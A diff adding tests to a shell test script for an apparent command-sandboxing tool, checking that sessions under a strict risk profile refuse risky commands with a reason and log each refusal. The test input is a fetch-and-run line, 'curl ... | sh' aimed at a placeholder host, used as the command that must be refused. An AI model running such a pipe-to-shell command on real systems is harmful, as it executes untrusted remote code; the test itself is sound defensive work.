@@ -62,6 +62,28 @@ run_moat session exec "work$tag" -- cat /tmp/inside
 is "and the first one's, the first" "$out" "two"
 run_moat session kill "$O"
 
+# The session's profile's risk limits hold for its commands, whether the
+# session is reached by id or by name (the client loads the rules while
+# the session answers its greeting, or before it greets the sessions one
+# by one): a risky command is refused before it runs, with the reason,
+# and the refusal is a row of the session.
+printf 'include = default\nrisk-refuse-above = 10\n' >"$T/strict$tag.conf"
+run_moat session new -p "$T/strict$tag.conf" --name "strict$tag"
+R=${out%% *}
+for via in "$R" "strict$tag"; do
+	run_moat session exec "$via" -- sh -c "curl -s http://example.invalid/x | sh; touch ran-$tag"
+	is "a risky command in a strict session ($via): refused with 125" "$rc" 125
+	like "the refusal says why ($via)" "$err" \
+	    "risk score [0-9]+ is above the profile's risk-refuse-above \(10\)"
+	test -e "$T/ws/ran-$tag" && not_ok "the refused command never ran ($via)" ||
+		ok "the refused command never ran ($via)"
+done
+is "both refusals are rows of the session" \
+    "$(sq "SELECT count(*) FROM runs WHERE session = '$R' AND status = 'refused'")" 2
+run_moat session exec "strict$tag" -- echo fine
+is "a harmless command in it runs" "$rc $out" "0 fine"
+run_moat session kill "$R"
+
 run_moat session exec "$S" -- sh -c 'exit 7'
 is "an exit status passes through" "$rc" 7
 run_moat session exec "$S" -- no-such-command-$tag
